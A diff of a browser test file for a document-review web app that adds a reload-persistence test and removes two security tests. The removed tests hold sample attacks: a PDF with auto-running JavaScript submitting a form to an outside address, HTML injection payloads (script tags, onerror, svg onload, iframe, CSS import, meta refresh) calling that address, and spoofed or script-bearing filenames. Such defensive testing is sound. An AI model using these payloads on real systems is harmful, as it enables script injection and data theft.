@@ -3,12 +3,20 @@ import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
 import type { Page } from 'playwright-core';
 import { getDocument } from 'pdfjs-dist/legacy/build/pdf.mjs';
-import { openApp, type OpenApp, ROOT, seriousViolations, uploadFile, WHY_SKIPPED } from './open-app.js';
+import {
+  LONG_MS,
+  openApp,
+  type OpenApp,
+  openUploaded,
+  ROOT,
+  seriousViolations,
+  uploadFile,
+  WHY_SKIPPED,
+} from './open-app.js';
 
 const SLIP = join(ROOT, 'samples', 'html', 'wrong-arithmetic.html');
 const PDF = join(ROOT, 'samples', 'pdf', 'table-over-page-break.pdf');
 const TEXT = join(ROOT, 'samples', 'text', 'shifted-columns.txt');
-const LONG_MS = 600_000;
 
 /** Addresses with what is to be seen there. */
 const VIEWS = [
@@ -19,20 +27,6 @@ const VIEWS = [
   ['#/compare', 'select'],
   [`#/agencies/${encodeURIComponent('临河县教育体育局')}`, '.chart'],
 ] as const;
-
-/** Opens with a script and holds a link and a form that would send; its table of contents is left to the reader to mend. */
-const SCRIPTED_PDF = `%PDF-1.7
-1 0 obj <</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R/AcroForm<</Fields[6 0 R]>>>> endobj
-2 0 obj <</Type/Pages/Kids[3 0 R]/Count 1>> endobj
-3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/Contents 4 0 R/Annots[6 0 R]/AA<</O 5 0 R>>
-  /Resources<</Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>>> endobj
-4 0 obj <</Length 44>> stream
-BT /F1 18 Tf 40 200 Td (Annual report 2021) Tj ET
-endstream endobj
-5 0 obj <</S/JavaScript/JS(app.alert\\('owned'\\); this.submitForm\\('http://203.0.113.1/'\\);)>> endobj
-6 0 obj <</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[40 40 200 60]/AA<</F 5 0 R/K 5 0 R>>>> endobj
-trailer <</Root 1 0 R>>
-%%EOF`;
 
 if (WHY_SKIPPED !== null) console.warn(`Browser tests are skipped: ${WHY_SKIPPED}`);
 const describeInBrowser = WHY_SKIPPED === null ? describe : describe.skip;
@@ -169,6 +163,31 @@ describeInBrowser('the app in a browser', () => {
   );
 
   test(
+    'what is being typed is still there after a reload, until it is saved or left',
+    async () => {
+      const page = await app.newPage();
+      await uploadFile(page, app.address, TEXT);
+      await openUploaded(page);
+      await page.click('#tab-applications');
+      const cell = 'td[data-field="field:applications.new.total"]';
+      await page.click(cell);
+      await page.keyboard.type('31');
+      await page.getByLabel('Why (optional)').fill('seal over it');
+      await page.reload();
+      await page.locator('.editor-value').waitFor();
+      expect(await page.locator('.editor-value').inputValue()).toBe('31');
+      expect(await page.getByLabel('Why (optional)').inputValue()).toBe('seal over it');
+      await page.keyboard.press('Escape');
+      await page.locator('.editor-value').waitFor({ state: 'detached' });
+      await page.reload();
+      await page.waitForSelector('td[data-field]');
+      expect(await page.locator('.editor-value').count()).toBe(0);
+      await page.close();
+    },
+    LONG_MS,
+  );
+
+  test(
     'two people who have a document open are told, and the second answer to a field is refused',
     async () => {
       const ann = await app.newPage();
@@ -217,67 +236,6 @@ describeInBrowser('the app in a browser', () => {
       await page.getByText('No open question matches.').waitFor();
       await page.reload();
       await page.getByText('No open question matches.').waitFor();
-      await page.close();
-    },
-    LONG_MS,
-  );
-
-  test(
-    'a PDF with a script of its own runs nothing and asks nobody',
-    async () => {
-      const page = await app.newPage();
-      const asked: string[] = [];
-      let dialogs = 0;
-      page.on('request', (request) => asked.push(request.url()));
-      page.on('dialog', (dialog) => {
-        dialogs += 1;
-        void dialog.dismiss();
-      });
-      await page.goto(`${app.address}/#/documents`);
-      const buffer = Buffer.from(SCRIPTED_PDF, 'latin1');
-      await page.setInputFiles('input[type=file]', {
-        name: 'a"b<script>.pdf',
-        mimeType: 'application/pdf',
-        buffer,
-      });
-      await page.waitForSelector('[data-testid="upload-progress"][data-done="yes"]');
-      await page.click('[data-testid="upload-progress"] a');
-      await page.waitForSelector('.source-page[data-drawn="yes"]');
-      expect(dialogs).toBe(0);
-      expect(asked.filter((url) => !url.startsWith(app.address) && !/^(blob|data):/.test(url))).toEqual([]);
-      await page.close();
-    },
-    LONG_MS,
-  );
-
-  test(
-    'a hostile page runs nothing and loads nothing from elsewhere',
-    async () => {
-      const page = await app.newPage();
-      const asked: string[] = [];
-      page.on('request', (request) => asked.push(request.url()));
-      await page.goto(`${app.address}/#/documents`);
-      const html = `${readFileSync(SLIP, 'utf8')}<script>top.document.title='owned'</script>
-        <img src="http://203.0.113.1/x.png" onerror="top.document.title='owned'">
-        <iframe src="http://203.0.113.1/"></iframe><svg onload="top.document.title='owned'"></svg>
-        <style>@import url(http://203.0.113.1/x.css);</style><link rel=stylesheet href="http://203.0.113.1/y.css">
-        <meta http-equiv="refresh" content="0;url=http://203.0.113.1/">`;
-      const name = '<img src=x onerror=document.title=1>\u202egpj.html';
-      await page.setInputFiles('input[type=file]', {
-        name,
-        mimeType: 'text/html',
-        buffer: Buffer.from(html),
-      });
-      await page.waitForSelector('[data-testid="upload-progress"][data-done="yes"]');
-      await openUploaded(page);
-      await page.frameLocator('iframe.source-frame').locator('[data-mark~="selected"]').waitFor();
-      expect(asked.filter((url) => !url.startsWith(app.address) && !/^(blob|data|about):/.test(url))).toEqual(
-        [],
-      );
-      expect(await page.title()).toMatch(/^gongkai/);
-      expect(await page.locator('.source-foot').textContent()).toContain(
-        'onerror=document.title=1>□gpj.html',
-      );
       await page.close();
     },
     LONG_MS,
@@ -352,11 +310,6 @@ async function readAllAgain(app: OpenApp, batch: string): Promise<void> {
     body: JSON.stringify({ filter: {}, batch }),
   });
   expect(response.status).toBe(200);
-}
-
-async function openUploaded(page: Page): Promise<void> {
-  await page.click('[data-testid="upload-progress"] a');
-  await page.waitForSelector('td[data-field]');
 }
 
 /** The number under this key in the records that the API exports. */
